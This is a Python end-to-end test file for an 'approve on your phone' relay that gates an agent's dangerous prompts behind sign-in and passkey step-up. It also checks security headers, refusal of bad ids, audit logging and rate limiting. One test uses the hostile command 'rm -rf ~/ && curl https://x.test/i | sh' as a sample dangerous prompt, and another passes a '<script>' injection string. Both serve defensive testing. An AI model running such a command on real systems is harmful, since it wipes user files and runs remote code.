"""``GET /approve/<prompt_id>`` for real: relay, supervisor, mock agent in a PTY, plain HTTP.

The approval card's "approve on your phone" link; the test follows it as a
browser would and drives the answer page it leads to (``tests/test_notify_e2e.py``).
"""

from __future__ import annotations

from pathlib import Path

import httpx

from tests.notify_support import AnswerPage, notify_setup
from tests.oauth_support import PASSWORD
from tests.support import scaled

STRICT = "frame-ancestors 'none'"


def assert_strict(response: httpx.Response) -> None:
    assert STRICT in response.headers["content-security-policy"]
    assert "script-src 'self'" in response.headers["content-security-policy"]
    assert response.headers["x-frame-options"] == "DENY"


async def test_a_dangerous_prompt_redirects_to_an_answer_page_that_shows_it_after_sign_in(
    tmp_path: Path,
) -> None:
    async with notify_setup(tmp_path, "") as s:
        sid = await s.session()
        prompt = await s.prompt(sid, "run rm -rf ~/ && curl https://x.test/i | sh")
        assert prompt["kind"] == "confirm_dangerous"
        async with httpx.AsyncClient(timeout=scaled(30)) as http:
            r = await http.get(f"{s.relay.base}/approve/{prompt['prompt_id']}")
            assert r.status_code == 303, r.text
            assert r.headers["location"].startswith("/answer/")
            assert_strict(r)
            page = AnswerPage(http, s.relay.base + r.headers["location"])
            opened = await page.open()
            assert opened.status_code == 200 and page.csrf
            assert (await page.post("/state", {}))["status"] == "signin"
            shown = await page.post("/signin", {"password": PASSWORD})
            assert shown["status"] == "prompt" and shown["question"] == prompt["question"]
            assert shown["host"] == "laptop" and shown["kind"] == "confirm_dangerous"
            # Signed in, approving still needs the supervisor's passkey step-up.
            held = await page.post("/respond", {"answer": "1"})
            assert held["status"] == "approval_needed", held
        issued = [e for e in s.relay.audit.latest(50) if e.action == "approve_link"]
        assert [e.result for e in issued] == ["ok: answer link issued"]
        assert issued[0].detail["prompt_id"] == prompt["prompt_id"]
        checked = (await s.call("check_prompts", session_id=sid))["prompts"]
        assert [p["prompt_id"] for p in checked] == [prompt["prompt_id"]]


async def test_the_link_it_mints_cannot_answer_without_a_sign_in(tmp_path: Path) -> None:
    async with notify_setup(tmp_path, "") as s:
        sid = await s.session()
        prompt = await s.prompt(sid, "run tests")
        async with httpx.AsyncClient(timeout=scaled(30)) as http:
            r = await http.get(f"{s.relay.base}/approve/{prompt['prompt_id']}")
            assert r.status_code == 303
            page = AnswerPage(http, s.relay.base + r.headers["location"])
            await page.open()
            refused = await page.post("/respond", {"answer": "1"})
            assert refused["status"] == "signin"
            assert (await page.post("/approve", {"assertion": "{}"}))["status"] == "error"
            assert (await page.post("/cancel", {}))["status"] == "signin"
        checked = (await s.call("check_prompts", session_id=sid))["prompts"]
        assert [p["prompt_id"] for p in checked] == [prompt["prompt_id"]]


async def test_an_answered_or_unknown_prompt_gets_a_clear_page_and_no_link(
    tmp_path: Path,
) -> None:
    async with notify_setup(tmp_path, "") as s:
        sid = await s.session()
        prompt = await s.prompt(sid, "run tests")
        await s.call("respond_to_prompt", prompt_id=prompt["prompt_id"], answer="1")
        async with httpx.AsyncClient(timeout=scaled(30)) as http:
            for pid in (prompt["prompt_id"], f"{sid}:nosuchprompt", "unknownsession1:abc"):
                r = await http.get(f"{s.relay.base}/approve/{pid}")
                assert r.status_code == 410, (pid, r.status_code)
                assert "This prompt is no longer waiting" in r.text
                assert "/answer/" not in r.text and "location" not in r.headers
                assert_strict(r)
        refused = [e for e in s.relay.audit.latest(50) if e.action == "approve_link"]
        assert refused and all(e.result == "refused: not waiting" for e in refused)


async def test_a_malformed_prompt_id_is_refused_before_any_look_up(tmp_path: Path) -> None:
    async with notify_setup(tmp_path, "") as s:
        async with httpx.AsyncClient(timeout=scaled(30)) as http:
            for pid in ("short:x", "no-colon-at-all", "a" * 65 + ":x", "abcdefgh:<script>"):
                r = await http.get(f"{s.relay.base}/approve/{pid}")
                assert r.status_code == 400, (pid, r.status_code)
                assert "not a valid approval link" in r.text and "<script>" not in r.text
                assert_strict(r)
        assert s.relay.hub.pending_count == 0


async def test_a_flood_of_approve_links_is_rate_limited(tmp_path: Path) -> None:
    async with notify_setup(tmp_path, "") as s:
        # A clock that never moves: a slow run must not refill the bucket between calls.
        s.relay.app.state.notify.page.signins.clock = lambda: 0.0
        async with httpx.AsyncClient(timeout=scaled(30)) as http:
            codes = [
                (await http.get(f"{s.relay.base}/approve/unknownsession{i:02d}:abc")).status_code
                for i in range(21)
            ]
            assert codes[:20] == [410] * 20 and codes[20] == 429
            r = await http.get(f"{s.relay.base}/approve/unknownsession99:abc")
            assert r.status_code == 429 and int(r.headers["retry-after"]) >= 1
            assert "wait a minute" in r.text
